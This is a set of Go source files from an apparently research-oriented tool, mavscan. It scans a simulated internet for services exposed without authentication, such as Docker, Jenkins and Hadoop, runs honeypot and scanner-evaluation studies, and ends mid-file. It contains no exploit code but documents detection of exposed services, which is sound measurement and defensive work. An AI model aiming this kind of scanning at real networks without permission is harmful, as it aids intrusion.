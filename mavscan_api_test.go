package mavscan_test

import (
	"context"
	"fmt"
	"net/netip"
	"testing"

	"mavscan"
)

// ExampleNewPipeline shows the minimal end-to-end flow: deploy an emulated
// vulnerable application, scan it, read the finding.
func ExampleNewPipeline() {
	net := mavscan.NewNetwork()
	inst, _ := mavscan.NewApp(mavscan.AppConfig{App: "Docker"})
	host := mavscan.NewHost(netip.MustParseAddr("10.0.0.3"))
	host.Bind(2375, mavscan.ServeHTTP(inst.Handler()))
	_ = net.AddHost(host)

	report, _ := mavscan.NewPipeline(net).Run(context.Background(), mavscan.ScanOptions{
		Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/29")},
	})
	for _, obs := range report.Apps {
		fmt.Println(obs.App, obs.Version, "vulnerable:", obs.Vulnerable())
	}
	// Output: Docker 20.10.6 vulnerable: true
}

func TestPublicCatalogAccessors(t *testing.T) {
	if got := len(mavscan.Catalog()); got != 25 {
		t.Fatalf("Catalog() = %d apps", got)
	}
	if got := len(mavscan.InScopeApps()); got != 18 {
		t.Fatalf("InScopeApps() = %d apps", got)
	}
	if got := len(mavscan.ScanPorts()); got != 12 {
		t.Fatalf("ScanPorts() = %d ports", got)
	}
}

func TestPublicHTTPSPath(t *testing.T) {
	net := mavscan.NewNetwork()
	ca, err := mavscan.NewCA()
	if err != nil {
		t.Fatal(err)
	}
	inst, err := mavscan.NewApp(mavscan.AppConfig{App: "Kubernetes"})
	if err != nil {
		t.Fatal(err)
	}
	ip := netip.MustParseAddr("10.0.0.5")
	cert, err := ca.CertFor("kube.example.org", ip.String())
	if err != nil {
		t.Fatal(err)
	}
	host := mavscan.NewHost(ip)
	host.Bind(6443, mavscan.ServeHTTPS(inst.Handler(), cert))
	if err := net.AddHost(host); err != nil {
		t.Fatal(err)
	}
	client := mavscan.NewHTTPClient(net)
	resp, err := client.Get("https://10.0.0.5:6443/version")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("kube /version over TLS: %d", resp.StatusCode)
	}
}

func TestPublicStudyFlow(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a small scan study")
	}
	scan, err := mavscan.RunScan(context.Background(), mavscan.ScanConfig{
		Population: mavscan.PopulationConfig{
			Seed: 2, HostScale: 100000, VulnScale: 40,
			BackgroundScale: -1, WildcardScale: -1,
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(scan.Report.VulnerableObservations()) == 0 {
		t.Fatal("scan found nothing")
	}
	// The disclosure extension consumes the scan output directly.
	var findings []mavscan.DisclosureFinding
	for _, obs := range scan.Report.VulnerableObservations() {
		findings = append(findings, mavscan.DisclosureFinding{
			IP: obs.IP, Port: obs.Port, App: obs.App, TLS: obs.Scheme == "https",
		})
	}
	plan := mavscan.NewDisclosureBuilder(scan.World.Net, scan.World.Geo).Build(context.Background(), findings)
	if plan.Notifiable() == 0 {
		t.Fatal("no notifiable findings")
	}
}

func TestPublicCTExperiment(t *testing.T) {
	if testing.Short() {
		t.Skip("replays a week of deployments")
	}
	res, err := mavscan.RunCTExperiment(mavscan.CTExperimentConfig{Seed: 4, Deployments: 40})
	if err != nil {
		t.Fatal(err)
	}
	if res.CTHijacked == 0 {
		t.Fatal("CT attacker idle")
	}
}
