// Honeypot-study example: deploy the 18 vulnerable applications as
// monitored honeypots, replay the modeled attacker population over four
// simulated weeks, and analyze the recorded attacks (Section 4 / RQ4-6).
package main

import (
	"fmt"
	"log"
	"os"

	"mavscan"
	"mavscan/internal/analysis"
	"mavscan/internal/report"
)

func main() {
	hs, err := mavscan.RunHoneypots(7)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("central store holds %d monitoring events\n", hs.Store.Len())
	fmt.Printf("sessionized into %d attacks from %d attacker clusters\n\n",
		len(hs.Attacks), len(hs.Clusters))

	report.Table5(os.Stdout, hs.Attacks)
	fmt.Println()
	report.Table6(os.Stdout, analysis.Table6(hs.Attacks, hs.Start))
	fmt.Println()
	report.Figure4(os.Stdout, hs.Clusters)

	// Inspect one recorded compromise end to end: the honeypot monitoring
	// captured the full HTTP exchange (Packetbeat) and the executed
	// command (Auditbeat).
	for _, a := range hs.Attacks {
		if a.App == "Hadoop" {
			fmt.Printf("\nfirst Hadoop compromise, %v after exposure:\n", a.Start.Sub(hs.Start))
			fmt.Printf("  source: %s\n  command: %.120s...\n", a.Src, a.Commands[0])
			break
		}
	}
}
