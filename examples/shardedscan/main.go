// Sharded-resumable-scan example: run the Section-3 scan sharded across
// four pipelines with per-segment checkpointing, kill the orchestrator
// partway through (simulating a crashed scan machine), resume from the
// journal, and verify the resumed report is byte-identical to an
// uninterrupted run — the operational workflow real Internet-wide scans
// depend on.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log"

	"mavscan"
)

var popCfg = mavscan.PopulationConfig{
	Seed:            42,
	HostScale:       8000,
	VulnScale:       8,
	BackgroundScale: -1,
	WildcardScale:   -1,
}

// killStore wraps a checkpoint store and cancels the scan's context after
// a fixed number of segment checkpoints — a deterministic stand-in for
// `kill -9` at an arbitrary point of a long scan.
type killStore struct {
	mavscan.CheckpointStore
	remaining int
	cancel    context.CancelFunc
}

func (s *killStore) Append(rec mavscan.CheckpointRecord) error {
	if err := s.CheckpointStore.Append(rec); err != nil {
		return err
	}
	if rec.Kind == "segment" {
		if s.remaining--; s.remaining == 0 {
			s.cancel()
		}
	}
	return nil
}

func scanJSON(scan *mavscan.ScanStudy) string {
	rep := *scan.Report
	rep.Stats.Elapsed = 0
	b, err := json.Marshal(&rep)
	if err != nil {
		log.Fatal(err)
	}
	return string(b)
}

func main() {
	// Reference: one uninterrupted sharded run.
	journal := mavscan.NewMemCheckpointStore()
	full, err := mavscan.RunScan(context.Background(), mavscan.ScanConfig{
		Population: popCfg,
		Scan:       mavscan.ScanOptions{Seed: 42},
		Shards:     4,
		Checkpoint: mavscan.Checkpoint{Store: journal, Every: 1 << 17},
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("uninterrupted: %d probes, %d apps, %d journal records\n",
		full.Report.Stats.Probed, len(full.Report.Apps), journal.Len())

	// Same scan, killed after its third segment checkpoint.
	journal = mavscan.NewMemCheckpointStore()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	killed := mavscan.ScanConfig{
		Population: popCfg,
		Scan:       mavscan.ScanOptions{Seed: 42},
		Shards:     4,
		Checkpoint: mavscan.Checkpoint{Store: &killStore{CheckpointStore: journal, remaining: 3, cancel: cancel}, Every: 1 << 17},
	}
	if _, err := mavscan.RunScan(ctx, killed); !errors.Is(err, context.Canceled) {
		log.Fatalf("killed run: got %v, want context.Canceled", err)
	}
	fmt.Printf("killed after 3 checkpoints: journal holds %d records\n", journal.Len())

	// Resume from the journal: completed segments are skipped, the rest
	// re-run, and the merged report must match the uninterrupted one.
	resumed := killed
	resumed.Checkpoint = mavscan.Checkpoint{Store: journal, Every: 1 << 17, Resume: true}
	scan, err := mavscan.RunScan(context.Background(), resumed)
	if err != nil {
		log.Fatal(err)
	}
	if scanJSON(scan) != scanJSON(full) {
		log.Fatal("resumed report differs from uninterrupted run")
	}
	fmt.Println("resumed report is byte-identical to the uninterrupted run")

	for _, obs := range scan.Report.VulnerableObservations()[:3] {
		fmt.Printf("  e.g. %s on %s:%d (%s %s)\n", obs.App, obs.IP, obs.Port, obs.Scheme, obs.Version)
	}
}
