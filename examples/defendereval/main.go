// Defender-evaluation example (Section 5 / RQ7): point the two emulated
// commercial security scanners at the 18 vulnerable honeypots and compare
// their coverage with the actual MAVs and with each other.
package main

import (
	"fmt"
	"log"

	"mavscan"
	"mavscan/internal/secscan"
)

func main() {
	def, err := mavscan.RunDefenders()
	if err != nil {
		log.Fatal(err)
	}

	vuln := func(fs []mavscan.ScannerFinding) map[mavscan.App]bool {
		out := map[mavscan.App]bool{}
		for _, f := range fs {
			if f.Severity == secscan.SeverityVulnerability {
				out[f.App] = true
			}
		}
		return out
	}
	s1, s2 := vuln(def.Scanner1), vuln(def.Scanner2)

	fmt.Printf("Scanner 1 flagged %d/18 MAVs, Scanner 2 flagged %d/18 (paper: 5 and 3)\n\n", len(s1), len(s2))
	fmt.Println("App          S1   S2")
	fmt.Println("-----------  ---  ---")
	both := 0
	for _, info := range mavscan.InScopeApps() {
		mark := func(m map[mavscan.App]bool) string {
			if m[info.App] {
				return "yes"
			}
			return "-"
		}
		if s1[info.App] && s2[info.App] {
			both++
		}
		fmt.Printf("%-11s  %-3s  %-3s\n", info.App, mark(s1), mark(s2))
	}
	fmt.Printf("\noverlap between the two scanners: %d applications (paper: 2 — Docker and Consul)\n", both)
	fmt.Println("conclusion: defenders relying on these scanners miss most missing-authentication vulnerabilities.")
}
