// Internet-scan example: the paper's Section-3 measurement on a generated
// simulated internet — generate a world following the published population
// marginals, run the three-stage pipeline over the whole address plan and
// print the prevalence tables.
package main

import (
	"context"
	"fmt"
	"log"
	"os"

	"mavscan"
	"mavscan/internal/analysis"
	"mavscan/internal/population"
	"mavscan/internal/report"
)

func main() {
	scan, err := mavscan.RunScan(context.Background(), mavscan.ScanConfig{
		Population: mavscan.PopulationConfig{
			Seed:            42,
			HostScale:       8000, // sample the secure population at 1/8000
			VulnScale:       8,    // and the vulnerable population at 1/8
			BackgroundScale: 200000,
			WildcardScale:   200000,
		},
	})
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("world: %d hosts (%d background, %d wildcard artifacts)\n",
		scan.World.Net.NumHosts(), scan.World.Background, scan.World.Wildcard)
	fmt.Printf("stage I probed %d pairs in %v\n\n", scan.Report.Stats.Probed, scan.Report.Stats.Elapsed)

	report.Table2(os.Stdout, scan.Report)
	fmt.Println()
	report.Table3(os.Stdout, scan)
	fmt.Println()
	report.Table4(os.Stdout, scan, 5)
	fmt.Println()
	report.Figure1(os.Stdout, analysis.Figure1(scan.Report.Apps, population.ScanDate, "J-Notebook", "Hadoop"))
}
