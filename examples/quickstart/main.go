// Quickstart: build a three-host toy internet by hand — a vulnerable
// Jenkins, a secured Jenkins and an exposed Docker daemon — and run the
// full three-stage detection pipeline against it.
package main

import (
	"context"
	"fmt"
	"log"
	"net/netip"

	"mavscan"
)

func main() {
	net := mavscan.NewNetwork()

	deploy := func(ip string, cfg mavscan.AppConfig, port int) {
		inst, err := mavscan.NewApp(cfg)
		if err != nil {
			log.Fatal(err)
		}
		host := mavscan.NewHost(netip.MustParseAddr(ip))
		host.Bind(port, mavscan.ServeHTTP(inst.Handler()))
		if err := net.AddHost(host); err != nil {
			log.Fatal(err)
		}
		fmt.Printf("deployed %-10s %-8s at %s:%d (vulnerable: %v)\n",
			cfg.App, inst.Version(), ip, port, inst.Vulnerable())
	}

	// A Jenkins that never got its authentication enabled...
	deploy("10.0.0.1", mavscan.AppConfig{App: "Jenkins", AuthRequired: false}, 8080)
	// ...its properly configured twin...
	deploy("10.0.0.2", mavscan.AppConfig{App: "Jenkins", AuthRequired: true}, 8080)
	// ...and a Docker daemon exposed on the classic port 2375.
	deploy("10.0.0.3", mavscan.AppConfig{App: "Docker"}, 2375)

	report, err := mavscan.NewPipeline(net).Run(context.Background(), mavscan.ScanOptions{
		Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/29")},
	})
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("\nscan probed %d (ip, port) pairs, found %d open ports\n",
		report.Stats.Probed, report.Stats.Open)
	for _, obs := range report.Apps {
		status := "secure"
		if obs.Vulnerable() {
			status = "VULNERABLE: " + obs.Findings[0].Details
		}
		fmt.Printf("  %s:%d %-10s version=%-8s → %s\n",
			obs.IP, obs.Port, obs.App, obs.Version, status)
	}
}
