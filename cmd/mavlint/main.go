// Command mavlint is the forwarding shim for "mav lint"; see cmd/mav.
package main

import (
	"os"

	"mavscan/internal/cli"
)

func main() { os.Exit(cli.Forward("lint", os.Args[1:])) }
