// Command mavlint runs mavscan's repo-specific static-analysis suite.
//
// The suite enforces the invariants the paper's methodology depends on —
// GET-only detection probes, simulated-clock determinism, network
// hermeticity, bounded goroutines, and no dropped scan errors. See
// internal/lint for the analyzers and DESIGN.md for the mapping to paper
// constraints.
//
// Usage:
//
//	mavlint [-rules list] [-pkg list] [./... | <module-dir>]
//
// With "./..." (or no argument) the module containing the working
// directory is analyzed. A directory argument holding a go.mod is
// analyzed as its own module root, which is how the checked-in violation
// fixtures under internal/lint/testdata are exercised.
//
// Exit status: 0 when clean, 1 on findings, 2 on usage or load errors.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"mavscan/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr *os.File) int {
	fs := flag.NewFlagSet("mavlint", flag.ContinueOnError)
	fs.SetOutput(stderr)
	rules := fs.String("rules", "", "comma-separated subset of rules to run (default: all)")
	pkgFilter := fs.String("pkg", "", "comma-separated import-path suffixes restricting which packages are analyzed (default: all)")
	list := fs.Bool("list", false, "print the available rules and exit")
	if err := fs.Parse(args); err != nil {
		return 2
	}

	if *list {
		for _, a := range lint.Analyzers() {
			fmt.Fprintf(stdout, "%-10s %s\n", a.Name, a.Doc)
		}
		return 0
	}

	analyzers, err := selectAnalyzers(*rules)
	if err != nil {
		fmt.Fprintln(stderr, "mavlint:", err)
		return 2
	}

	root, err := resolveRoot(fs.Args())
	if err != nil {
		fmt.Fprintln(stderr, "mavlint:", err)
		return 2
	}

	pkgs, err := lint.LoadModule(root)
	if err != nil {
		fmt.Fprintln(stderr, "mavlint:", err)
		return 2
	}

	if *pkgFilter != "" {
		pkgs, err = filterPackages(pkgs, *pkgFilter)
		if err != nil {
			fmt.Fprintln(stderr, "mavlint:", err)
			return 2
		}
	}

	findings := lint.RunSuite(pkgs, analyzers)
	for _, f := range findings {
		fmt.Fprintln(stdout, f)
	}
	if len(findings) > 0 {
		fmt.Fprintf(stderr, "mavlint: %d violation(s)\n", len(findings))
		return 1
	}
	return 0
}

// selectAnalyzers resolves the -rules flag to a suite subset.
func selectAnalyzers(rules string) ([]*lint.Analyzer, error) {
	if rules == "" {
		return lint.Analyzers(), nil
	}
	var out []*lint.Analyzer
	for _, name := range strings.Split(rules, ",") {
		name = strings.TrimSpace(name)
		a := lint.ByName(name)
		if a == nil {
			return nil, fmt.Errorf("unknown rule %q", name)
		}
		out = append(out, a)
	}
	return out, nil
}

// filterPackages keeps the packages whose import path equals, or ends
// with "/" plus, one of the comma-separated patterns. A pattern matching
// nothing is an error — a CI step silently analyzing zero packages would
// report success forever.
func filterPackages(pkgs []*lint.Package, filter string) ([]*lint.Package, error) {
	var out []*lint.Package
	for _, pat := range strings.Split(filter, ",") {
		pat = strings.TrimSpace(pat)
		if pat == "" {
			continue
		}
		matched := false
		for _, p := range pkgs {
			if p.Path == pat || strings.HasSuffix(p.Path, "/"+pat) {
				out = append(out, p)
				matched = true
			}
		}
		if !matched {
			return nil, fmt.Errorf("-pkg pattern %q matches no package", pat)
		}
	}
	return out, nil
}

// resolveRoot maps the package-pattern argument to a module root: an
// explicit directory containing go.mod wins; otherwise ("./..." or
// nothing) the module enclosing the working directory is used.
func resolveRoot(args []string) (string, error) {
	if len(args) > 1 {
		return "", fmt.Errorf("at most one package pattern expected, got %d", len(args))
	}
	if len(args) == 1 && args[0] != "./..." {
		dir := filepath.Clean(args[0])
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		return "", fmt.Errorf("argument %q is neither ./... nor a module directory", args[0])
	}
	wd, err := os.Getwd()
	if err != nil {
		return "", err
	}
	return lint.FindModuleRoot(wd)
}
