// Command mavpot runs the honeypot study (Section 4): 18 vulnerable
// applications exposed to the modeled attacker population for four
// simulated weeks, then prints Tables 5-8 and Figures 3-4.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"mavscan/internal/analysis"
	"mavscan/internal/obs"
	"mavscan/internal/report"
	"mavscan/internal/simtime"
	"mavscan/internal/study"
	"mavscan/internal/telemetry"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("mavpot: ")
	seed := flag.Int64("seed", 7, "attack plan seed")
	metrics := flag.Bool("metrics", false, "enable telemetry: live progress on stderr, Prometheus snapshot after the tables")
	serve := flag.String("serve", "", "serve the operations plane on this loopback address, e.g. :8072 (implies -metrics)")
	linger := flag.Bool("linger", false, "with -serve: keep serving after the study completes until interrupted")
	flag.Parse()

	var reg *telemetry.Registry
	var done chan struct{}
	if *metrics || *serve != "" {
		reg = telemetry.New(simtime.Wall{})
		done = make(chan struct{})
		go obs.ProgressLoop(os.Stderr, reg, obs.HoneypotProgressFields,
			simtime.Wall{}, 200*time.Millisecond, done)
	}

	ready := &obs.Flag{}
	var srv *obs.Server
	if *serve != "" {
		lis, err := obs.Listen(*serve)
		if err != nil {
			log.Fatal(err)
		}
		srv = obs.Serve(lis, obs.Config{
			Telemetry: reg,
			Live:      []obs.Check{obs.HeapCheck(8 << 30)},
			Ready:     []obs.Check{ready.Check("farm")},
		})
		defer srv.Close()
		fmt.Fprintf(os.Stderr, "mavpot: operations plane on http://%s\n", srv.Addr())
	}

	fmt.Println("deploying 18 honeypots and replaying four weeks of attacks...")
	hs, err := study.RunHoneypots(context.Background(), study.HoneypotConfig{
		Seed:      *seed,
		Telemetry: reg,
		Obs:       study.ObsConfig{Ready: ready},
	})
	if done != nil {
		close(done)
	}
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("monitoring recorded %d events (%d executed attacks, %d failed attempts)\n\n",
		hs.Store.Len(), len(hs.Executor.Executed), len(hs.Executor.Failed))

	w := os.Stdout
	report.Table5(w, hs.Attacks)
	fmt.Fprintln(w)
	report.Table6(w, analysis.Table6(hs.Attacks, hs.Start))
	fmt.Fprintln(w)
	report.Table7(w, analysis.Table7(hs.Attacks, hs.Geo), 10)
	fmt.Fprintln(w)
	report.Table8(w, analysis.Table8(hs.Attacks, hs.Geo), 5)
	fmt.Fprintln(w)
	report.Figure3(w, analysis.Figure3(hs.Attacks, hs.Start))
	fmt.Fprintln(w)
	report.Figure4(w, hs.Clusters)
	fmt.Fprintf(w, "\ntop-5 attackers carry %.0f%% of attacks (paper: 67%%), top-10 %.0f%% (paper: 84%%)\n",
		100*analysis.TopShare(hs.Clusters, 5), 100*analysis.TopShare(hs.Clusters, 10))

	fmt.Fprintln(w, "\nattack purposes (RQ4):")
	for _, row := range analysis.PurposeBreakdown(hs.Attacks) {
		fmt.Fprintf(w, "  %-20s %5d (%.0f%%)\n", row.Purpose, row.Attacks, 100*row.Share)
	}
	fmt.Fprintf(w, "cryptojacking (incl. Kinsing): %.0f%% of attacks (paper: \"mostly cryptojacking\")\n",
		100*analysis.CryptojackingShare(hs.Attacks))

	if reg != nil {
		fmt.Fprintln(w)
		fmt.Fprintln(w, "=== Telemetry snapshot ===")
		if err := reg.WriteProm(w); err != nil {
			log.Fatal(err)
		}
	}

	if *linger && srv != nil {
		fmt.Fprintf(os.Stderr, "mavpot: lingering on http://%s (interrupt to exit)\n", srv.Addr())
		sig := make(chan os.Signal, 1)
		signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
		<-sig
	}
}
