// Command mavpot is the forwarding shim for "mav pot"; see cmd/mav.
package main

import (
	"os"

	"mavscan/internal/cli"
)

func main() { os.Exit(cli.Forward("pot", os.Args[1:])) }
