// Command mavreport is the forwarding shim for "mav report"; see cmd/mav.
package main

import (
	"os"

	"mavscan/internal/cli"
)

func main() { os.Exit(cli.Forward("report", os.Args[1:])) }
