// Command mavscan runs the Internet-wide scanning study (Section 3) on a
// generated simulated internet and prints Tables 1-4 and Figure 1.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"

	"mavscan/internal/analysis"
	"mavscan/internal/mav"
	"mavscan/internal/population"
	"mavscan/internal/report"
	"mavscan/internal/scanner"
	"mavscan/internal/study"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("mavscan: ")
	var (
		seed      = flag.Int64("seed", 1, "world generation seed")
		hostScale = flag.Int("host-scale", 2000, "divisor for the secure host counts of Table 3")
		vulnScale = flag.Int("vuln-scale", 4, "divisor for the MAV counts of Table 3")
		bgScale   = flag.Int("background-scale", 100000, "divisor for Table 2 background noise (negative disables)")
		workers   = flag.Int("workers", 64, "stage-I probe workers")
	)
	flag.Parse()

	fmt.Println("generating simulated IPv4 internet...")
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: *bgScale,
			WildcardScale:   *bgScale,
		},
		Scan: scanner.Options{
			PortWorkers: *workers,
			Seed:        uint64(*seed),
		},
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("scanned %d probes in %v; %d open ports, %d hosts in world\n\n",
		scan.Report.Stats.Probed, scan.Report.Stats.Elapsed, scan.Report.Stats.Open, scan.World.Net.NumHosts())

	w := os.Stdout
	report.Table1(w)
	fmt.Fprintln(w)
	report.Table2(w, scan.Report)
	fmt.Fprintln(w)
	report.Table3(w, scan)
	fmt.Fprintln(w)
	report.Table4(w, scan, 5)
	fmt.Fprintln(w)
	panels := analysis.Figure1(scan.Report.Apps, population.ScanDate, mav.JupyterNotebook, mav.Hadoop)
	report.Figure1(w, panels)
}
