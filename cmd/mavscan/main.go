// Command mavscan runs the Internet-wide scanning study (Section 3) on a
// generated simulated internet and prints Tables 1-4 and Figure 1.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"mavscan/internal/analysis"
	"mavscan/internal/faults"
	"mavscan/internal/mav"
	"mavscan/internal/obs"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/report"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/simtime"
	"mavscan/internal/study"
	"mavscan/internal/telemetry"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("mavscan: ")
	var (
		seed      = flag.Int64("seed", 1, "world generation seed")
		hostScale = flag.Int("host-scale", 2000, "divisor for the secure host counts of Table 3")
		vulnScale = flag.Int("vuln-scale", 4, "divisor for the MAV counts of Table 3")
		bgScale   = flag.Int("background-scale", 100000, "divisor for Table 2 background noise (negative disables)")
		popScale  = flag.Int("pop-scale", 1, "multiply every population target and widen the address plan this many times (implies -lazy for scales > 1 unless -lazy=false is forced)")
		lazy      = flag.Bool("lazy", false, "derive hosts on first probe instead of materializing the world up front")
		cacheSize = flag.Int("cache-hosts", 0, "resident host bound for -lazy worlds (0 = default 131072)")
		hostile   = flag.Float64("hostile", 0, "fraction of the population seeded as weaponized responders (tarpits, bombs, mazes), in [0, 1)")
		httpTO    = flag.Duration("http-timeout", 0, "stage-II/III per-request timeout and connection wall budget (0 = 10s default); set low for -hostile scans")
		workers   = flag.Int("workers", 64, "stage-I probe workers")
		metrics   = flag.Bool("metrics", false, "enable telemetry: live progress on stderr, Prometheus snapshot after the tables")
		serve     = flag.String("serve", "", "serve the operations plane on this loopback address, e.g. :8070 (implies -metrics)")
		linger    = flag.Bool("linger", false, "with -serve: keep serving after the scan completes until interrupted")
		faultSpec = flag.String("faults", "", "inject deterministic transient faults, e.g. seed=7,rate=0.02[,latency=50ms,trunc=64,kinds=syn+reset+5xx,crash=0.3]")
		retries   = flag.Int("retries", 3, "max attempts per HTTP-stage request when -faults is set (1 disables retries)")
		shards    = flag.Int("shards", 1, "run the scan sharded across this many pipelines")
		ckptPath  = flag.String("checkpoint", "", "journal per-shard progress to this file (JSONL), enabling -resume")
		resume    = flag.Bool("resume", false, "resume from the -checkpoint journal, skipping completed segments")
		ckptEvery = flag.Uint64("checkpoint-every", 0, "checkpoint granularity in addresses per segment (0 = one segment per shard)")
	)
	flag.Parse()
	if *resume && *ckptPath == "" {
		log.Fatal("-resume requires -checkpoint")
	}
	if *hostile < 0 || *hostile >= 1 {
		log.Fatal("-hostile must be in [0, 1)")
	}
	if *popScale > 1 && !*lazy {
		// An eager 100× world means tens of millions of up-front hosts;
		// unless the user explicitly forced eager mode, scale lazily.
		forced := false
		flag.Visit(func(f *flag.Flag) {
			if f.Name == "lazy" {
				forced = true
			}
		})
		if !forced {
			*lazy = true
		}
	}

	faultCfg, err := faults.ParseFlag(*faultSpec)
	if err != nil {
		log.Fatal(err)
	}
	var policy resilience.Policy
	if faultCfg.Enabled() && *retries > 1 {
		policy = resilience.Policy{MaxAttempts: *retries, JitterSeed: uint64(faultCfg.Seed)}
	}

	var reg *telemetry.Registry
	var done chan struct{}
	if *metrics || *serve != "" {
		reg = telemetry.New(simtime.Wall{})
		done = make(chan struct{})
		go obs.ProgressLoop(os.Stderr, reg, obs.ScanProgressFields,
			simtime.Wall{}, 200*time.Millisecond, done)
	}

	var ckpt orchestrator.Checkpoint
	var store *orchestrator.FileStore
	if *ckptPath != "" {
		store, err = orchestrator.OpenFileStore(*ckptPath)
		if err != nil {
			log.Fatal(err)
		}
		defer store.Close()
		ckpt = orchestrator.Checkpoint{Store: store, Every: *ckptEvery, Resume: *resume}
	}

	// The operations plane: progress tracker + readiness latch served over
	// a loopback-only listener. The tracker routes the scan through the
	// orchestrator even unsharded, so /progress always has a watermark.
	var tracker *orchestrator.ProgressTracker
	var ready *obs.Flag
	var srv *obs.Server
	if *serve != "" {
		tracker = orchestrator.NewProgressTracker()
		ready = &obs.Flag{}
		lis, err := obs.Listen(*serve)
		if err != nil {
			log.Fatal(err)
		}
		readyChecks := []obs.Check{ready.Check("world"), obs.PingCheck("workers", tracker)}
		if store != nil {
			readyChecks = append(readyChecks, obs.PingCheck("checkpoint", store))
		}
		srv = obs.Serve(lis, obs.Config{
			Telemetry: reg,
			Progress:  func() any { return tracker.Snapshot() },
			Live:      []obs.Check{obs.HeapCheck(8 << 30)},
			Ready:     readyChecks,
		})
		defer srv.Close()
		fmt.Fprintf(os.Stderr, "mavscan: operations plane on http://%s\n", srv.Addr())
	}

	fmt.Println("generating simulated IPv4 internet...")
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: *bgScale,
			WildcardScale:   *bgScale,
			PopScale:        *popScale,
			Lazy:            *lazy,
			CacheHosts:      *cacheSize,
			HostileRate:     *hostile,
		},
		Scan: scanner.Options{
			PortWorkers: *workers,
			Seed:        uint64(*seed),
		},
		Shards:      *shards,
		Checkpoint:  ckpt,
		Faults:      faultCfg,
		Resilience:  policy,
		Telemetry:   reg,
		Obs:         study.ObsConfig{Progress: tracker, Ready: ready},
		HTTPTimeout: *httpTO,
	})
	if done != nil {
		close(done)
	}
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("scanned %d probes in %v; %d open ports, %d hosts in world (%d materialized)\n\n",
		scan.Report.Stats.Probed, scan.Report.Stats.Elapsed, scan.Report.Stats.Open,
		scan.World.TotalHosts(), scan.World.MaterializedHosts())

	w := os.Stdout
	report.Table1(w)
	fmt.Fprintln(w)
	report.Table2(w, scan.Report)
	fmt.Fprintln(w)
	report.Table3(w, scan)
	fmt.Fprintln(w)
	report.Table4(w, scan, 5)
	fmt.Fprintln(w)
	panels := analysis.Figure1(scan.Report.Apps, population.ScanDate, mav.JupyterNotebook, mav.Hadoop)
	report.Figure1(w, panels)

	if reg != nil {
		// Final flush: the full exposition lands on stdout even if no
		// scraper ever hit /metrics during the run.
		fmt.Fprintln(w)
		fmt.Fprintln(w, "=== Telemetry snapshot ===")
		if err := reg.WriteProm(w); err != nil {
			log.Fatal(err)
		}
	}

	if *linger && srv != nil {
		fmt.Fprintf(os.Stderr, "mavscan: lingering on http://%s (interrupt to exit)\n", srv.Addr())
		sig := make(chan os.Signal, 1)
		signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
		<-sig
	}
}
