// Command mavscan is the forwarding shim for "mav scan"; see cmd/mav.
package main

import (
	"os"

	"mavscan/internal/cli"
)

func main() { os.Exit(cli.Forward("scan", os.Args[1:])) }
