// Command mavscan runs the Internet-wide scanning study (Section 3) on a
// generated simulated internet and prints Tables 1-4 and Figure 1.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"time"

	"mavscan/internal/analysis"
	"mavscan/internal/faults"
	"mavscan/internal/mav"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/report"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/simtime"
	"mavscan/internal/study"
	"mavscan/internal/telemetry"
)

// progressLoop prints a live progress line to stderr every interval until
// done is closed. It reads only snapshot accessors, so it never contends
// with the scan's hot path.
func progressLoop(reg *telemetry.Registry, interval time.Duration, done <-chan struct{}) {
	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	for {
		select {
		case <-done:
			fmt.Fprintf(os.Stderr, "\r%80s\r", "")
			return
		case <-ticker.C:
			fmt.Fprintf(os.Stderr,
				"\rprobes=%d open=%d prefilter=%d matched=%d findings=%d queue=%d",
				reg.CounterValue("mavscan_portscan_probes_total"),
				reg.CounterValue("mavscan_portscan_open_total"),
				reg.CounterValue("mavscan_prefilter_probes_total"),
				reg.CounterValue("mavscan_prefilter_matched_endpoints_total"),
				reg.CounterValue("mavscan_tsunami_findings_total"),
				reg.GaugeValue("mavscan_scanner_queue_depth"))
		}
	}
}

func main() {
	log.SetFlags(0)
	log.SetPrefix("mavscan: ")
	var (
		seed      = flag.Int64("seed", 1, "world generation seed")
		hostScale = flag.Int("host-scale", 2000, "divisor for the secure host counts of Table 3")
		vulnScale = flag.Int("vuln-scale", 4, "divisor for the MAV counts of Table 3")
